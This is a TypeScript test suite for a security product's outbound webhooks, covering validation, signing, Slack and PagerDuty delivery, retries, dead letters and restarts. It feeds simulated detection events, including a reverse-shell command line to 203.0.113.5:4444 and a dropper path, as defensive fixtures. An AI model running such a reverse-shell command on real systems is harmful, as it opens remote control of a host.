import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestController, type TestController } from "../support/controller";
import { request } from "../support/http";
import { waitFor } from "../support/wait";
import { FileAction } from "@vigil/proto";
import { connect, exec, send, T0, type Make } from "../detection/support";
import { verifySignature } from "../../src/webhooks/signature";
import { Receiver, sample } from "./support";

const ENV = { VIGIL_WEBHOOK_BACKOFF: "20ms", VIGIL_WEBHOOK_BACKOFF_MAX: "100ms", VIGIL_WEBHOOK_MAX_ATTEMPTS: "4" };
const SECRET = "s3cret-for-tests-0123456789";

describe("outbound webhooks", () => {
  let ctl: TestController;
  let rx: Receiver;
  let agentSeq = 1;
  const hooks: Record<string, string> = {};

  const create = async (body: Record<string, unknown>) => {
    const r = await request(ctl, "POST", "/api/v1/webhooks", body);
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    return r.body;
  };

  beforeAll(async () => {
    rx = await new Receiver().start();
    ctl = await startTestController({ env: ENV, detection: { reorderToleranceMs: 15 * 60_000, idleTickMs: 200 } });
  });
  afterAll(async () => {
    await ctl?.dispose();
    await rx?.close();
  });

  it("validates destinations with 400s naming the field, is admin only, and never returns secrets", async () => {
    const bad: Array<[Record<string, unknown>, string]> = [
      [{ name: "x", url: "ftp://example.com" }, '"url" must be http(s)'],
      [{ name: "x" }, '"url" is required'],
      [{ name: "x", url: "http://127.0.0.1/", format: "pagerduty" }, '"routingKey" is required'],
      [{ name: "x", url: "http://127.0.0.1/", minScore: 200 }, '"minScore"'],
      [{ name: "x", url: "http://127.0.0.1/", topics: ["events"] }, '"topics"'],
      [{ name: "x", url: "http://127.0.0.1/", format: "pagerduty", routingKey: "rk", topics: ["commands"] }, 'not "commands"'],
      [{ name: "x", url: "http://127.0.0.1/", secret: "short" }, '"secret"'],
      [{ name: "x", url: "http://127.0.0.1/", colour: "blue" }, 'unknown field "colour"'],
    ];
    for (const [body, msg] of bad) {
      const r = await request(ctl, "POST", "/api/v1/webhooks", body);
      expect(r.status).toBe(400);
      expect(r.body).toMatchObject({ statusCode: 400, error: "Bad Request" });
      expect(r.body.message).toContain(msg);
    }
    const analyst = (await ctl.security.apiKeys.create("analyst", "a", "test")).key;
    const denied = await request(ctl, "GET", "/api/v1/webhooks", undefined, { authorization: `Bearer ${analyst}` });
    expect(denied.status).toBe(403);

    const generated = await create({ name: "generated", url: `${rx.url}/unused`, enabled: false });
    expect(generated.secret).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(generated.secretHint).toBe(`…${generated.secret.slice(-4)}`);
    const pd = await create({ name: "pd", url: `${rx.url}/unused`, format: "pagerduty", routingKey: "R0UTINGKEY-abcd", enabled: false });
    expect(pd.routingKeyHint).toBe("…abcd");
    const listed = JSON.stringify((await request(ctl, "GET", "/api/v1/webhooks")).body);
    expect(listed).not.toContain(generated.secret);
    expect(listed).not.toContain("R0UTINGKEY");
    expect((await request(ctl, "GET", `/api/v1/webhooks/${generated.id}/dead-letters?limit=0`)).body.message).toContain('"limit"');
    expect((await request(ctl, "GET", "/api/v1/webhooks/nope")).status).toBe(404);
  });

  it("signs generic JSON, Slack and PagerDuty deliveries of a new alert, with filters applied", async () => {
    hooks.generic = (await create({ name: "soar", url: `${rx.url}/generic`, secret: SECRET, topics: ["alerts", "cases"] })).id;
    hooks.slack = (await create({ name: "chat", url: `${rx.url}/slack`, format: "slack", topics: ["alerts"] })).id;
    hooks.pd = (await create({ name: "pager", url: `${rx.url}/pd`, format: "pagerduty", routingKey: "pd-routing-key-1234", topics: ["alerts", "cases"] })).id;
    hooks.filtered = (await create({ name: "only-t1110", url: `${rx.url}/filtered`, ruleTags: ["attack.t1110"] })).id;

    const a = await connect(ctl, "hook-host");
    agentSeq = await send(a, agentSeq, [exec(T0, "/tmp/hook-dropper")]);
    a.close();
    const alertBody = await waitFor("generic alert", () => rx.at("/generic").find((r) => JSON.parse(r.body).type === "alert.created"));
    const ts = alertBody.headers["x-vigil-timestamp"] as string;
    expect(verifySignature(SECRET, alertBody.headers["x-vigil-signature"] as string, ts, alertBody.body, Math.floor(Date.now() / 1000))).toBe(true);
    expect(verifySignature(SECRET, alertBody.headers["x-vigil-signature"] as string, ts, alertBody.body.replace("hook-host", "evil-host"), Math.floor(Date.now() / 1000))).toBe(false);
    // An old timestamp is a replay, whatever the signature.
    expect(verifySignature(SECRET, alertBody.headers["x-vigil-signature"] as string, ts, alertBody.body, Number(ts) + 3600)).toBe(false);
    const alert = JSON.parse(alertBody.body);
    expect(alert).toMatchObject({ type: "alert.created", topic: "alerts", data: { agentId: "hook-host", caseId: expect.any(String) } });
    expect(alertBody.headers["x-vigil-delivery"]).toBe(alert.id);
    await waitFor("generic case", () => rx.at("/generic").some((r) => JSON.parse(r.body).type === "case.opened"));

    const slack = JSON.parse((await waitFor("slack", () => rx.at("/slack")[0])).body);
    expect(slack.text).toContain("[Vigil] Alert (score");
    expect(slack.blocks[0].type).toBe("section");

    const pd = await waitFor("pagerduty trigger", () =>
      rx
        .at("/pd")
        .map((r) => JSON.parse(r.body))
        .find((b) => b.event_action === "trigger" && b.payload.custom_details.ruleId),
    );
    expect(pd).toMatchObject({
      routing_key: "pd-routing-key-1234",
      dedup_key: alert.data.caseId,
      payload: { source: "host-hook-host", severity: expect.stringMatching(/critical|error|warning|info/) },
    });
    // Resolving the case resolves the incident with the same dedup key.
    const resolved = await request(ctl, "POST", `/api/v1/cases/${alert.data.caseId}/state`, { state: "resolved", verdict: "true_positive" });
    expect(resolved.status).toBe(200);
    await waitFor("pagerduty resolve", () =>
      rx
        .at("/pd")
        .map((r) => JSON.parse(r.body))
        .find((b) => b.event_action === "resolve" && b.dedup_key === alert.data.caseId),
    );

    // The rule has no attack.t1110 tag: nothing queued for that destination.
    expect((await request(ctl, "GET", `/api/v1/webhooks/${hooks.filtered}/deliveries`)).body.items.filter((d: { topic: string }) => d.topic === "alerts")).toEqual([]);
  });

  it("delivers case.updated to a destination subscribed to cases, once per case per minute", async () => {
    const id = (await create({ name: "cases-only", url: `${rx.url}/cases`, topics: ["cases"] })).id;
    const a = await connect(ctl, "grow-host");
    agentSeq = await send(a, agentSeq, [exec(T0, "/tmp/grow-1")]);
    const opened = JSON.parse((await waitFor("case.opened", () => rx.at("/cases").find((r) => JSON.parse(r.body).type === "case.opened"))).body);
    // Another rule (reverse shell command line) on the same host joins the case.
    agentSeq = await send(a, agentSeq, [exec(T0 + 1000, "/usr/bin/bash-/dev/tcp/203.0.113.5/4444")]);
    const updated = JSON.parse((await waitFor("case.updated", () => rx.at("/cases").find((r) => JSON.parse(r.body).type === "case.updated"))).body);
    expect(updated.data).toMatchObject({ id: opened.data.id });
    expect(updated.data.alertCount).toBeGreaterThan(opened.data.alertCount);
    // More alerts on the case within the minute: folded into one later delivery, not one each.
    const cron =
      (t: number, path: string): Make =>
      () => ({ eventTimeMs: t, body: { $case: "file", file: { action: FileAction.FILE_ACTION_CREATE, path } } });
    agentSeq = await send(a, agentSeq, [cron(T0 + 2000, "/etc/cron.d/grow"), exec(T0 + 3000, "/usr/bin/bash-/dev/tcp/203.0.113.5/4444")]);
    a.close();
    await waitFor("the case grew", async () => (await request(ctl, "GET", `/api/v1/cases/${opened.data.id}`)).body.alertCount > updated.data.alertCount);
    const queued = (await request(ctl, "GET", `/api/v1/webhooks/${id}/deliveries`)).body.items as Array<{ type: string }>;
    expect(queued.filter((d) => d.type === "case.updated")).toHaveLength(1);
  });

  it("creating, testing and deleting a webhook each leave exactly one audit record", async () => {
    const id = (await create({ name: "audited", url: `${rx.url}/audited`, enabled: false })).id;
    await request(ctl, "POST", `/api/v1/webhooks/${id}/test`);
    expect((await request(ctl, "DELETE", `/api/v1/webhooks/${id}`)).status).toBeLessThan(300);
    const trail = (await request(ctl, "GET", "/api/v1/audit?limit=1000")).body.items as Array<{ action: string; target: string }>;
    const about = trail.filter((r) => r.action.startsWith("webhook") && (r.target.includes(id) || r.target.startsWith("webhooks")));
    expect(about.map((r) => r.action).sort()).toEqual(["webhook.created", "webhook.deleted", "webhook.test_sent"]);
  });

  it("retries a failing receiver with backoff until it recovers", async () => {
    rx.behaviour.set("/flaky", (n) => (n <= 2 ? 503 : 200));
    const id = (await create({ name: "flaky", url: `${rx.url}/flaky` })).id;
    expect((await request(ctl, "POST", `/api/v1/webhooks/${id}/test`)).status).toBe(202);
    const done = await waitFor("delivered", async () => (await request(ctl, "GET", `/api/v1/webhooks/${id}/deliveries?state=delivered`)).body.items[0]);
    expect(done).toMatchObject({ type: "webhook.test", attempts: 3, lastStatus: 200, lastError: null });
    expect(rx.hits("/flaky")).toBe(3);
    // Every attempt carries the same delivery id (receivers deduplicate on it).
    expect(new Set(rx.at("/flaky").map((r) => r.headers["x-vigil-delivery"])).size).toBe(1);
  });

  it("dead-letters a receiver that always fails, shows it in the API, and retries it on request", async () => {
    let up = false;
    rx.behaviour.set("/down", () => (up ? 200 : 500));
    const id = (await create({ name: "down", url: `${rx.url}/down` })).id;
    const before = sample((await request(ctl, "GET", "/metrics")).body, "vigil_webhook_deliveries_total", { outcome: "dead" }) ?? 0;
    await request(ctl, "POST", `/api/v1/webhooks/${id}/test`);
    const dead = await waitFor("dead letter", async () => (await request(ctl, "GET", `/api/v1/webhooks/${id}/dead-letters`)).body.items[0]);
    expect(dead).toMatchObject({ state: "dead", attempts: 4, lastStatus: 500, lastError: "HTTP 500 (gave up after 4 attempts)", notice: { type: "webhook.test" } });
    expect(rx.hits("/down")).toBe(4);
    const m = (await request(ctl, "GET", "/metrics")).body as string;
    expect(sample(m, "vigil_webhook_deliveries_total", { outcome: "dead" })).toBe(before + 1);
    expect(sample(m, "vigil_webhook_deliveries_total", { outcome: "retry" })).toBeGreaterThanOrEqual(3);

    expect((await request(ctl, "POST", `/api/v1/webhooks/${id}/dead-letters/999999/retry`)).status).toBe(404);
    expect((await request(ctl, "POST", `/api/v1/webhooks/${id}/dead-letters/abc/retry`)).status).toBe(400);
    up = true;
    const retried = await request(ctl, "POST", `/api/v1/webhooks/${id}/dead-letters/${dead.id}/retry`);
    expect(retried.body).toEqual({ requeued: 1 });
    await waitFor("delivered after retry", async () => (await request(ctl, "GET", `/api/v1/webhooks/${id}/deliveries?state=delivered`)).body.items.length === 1);
    expect((await request(ctl, "GET", `/api/v1/webhooks/${id}/dead-letters`)).body.items).toEqual([]);
  });

  it("keeps queued deliveries across a controller restart", async () => {
    let up = false;
    rx.behaviour.set("/restart", () => (up ? 200 : 503));
    const first = await startTestController({ env: { ...ENV, VIGIL_WEBHOOK_BACKOFF: "1s", VIGIL_WEBHOOK_BACKOFF_MAX: "1s" } });
    const id = (await request(first, "POST", "/api/v1/webhooks", { name: "r", url: `${rx.url}/restart` })).body.id;
    await request(first, "POST", `/api/v1/webhooks/${id}/test`);
    await waitFor("first attempt failed", () => rx.hits("/restart") >= 1);
    await first.stop();
    up = true;
    const second = await startTestController({ env: ENV, databaseUrl: `sqlite:${join(first.dir, "vigil.db")}` });
    try {
      await waitFor("delivered by the restarted controller", () => rx.at("/restart").length >= 2);
      const d = await waitFor("delivered", async () => (await request(second, "GET", `/api/v1/webhooks/${id}/deliveries?state=delivered`)).body.items[0]);
      expect(d.attempts).toBe(2);
    } finally {
      await second.dispose();
      await first.dispose();
    }
  });
});
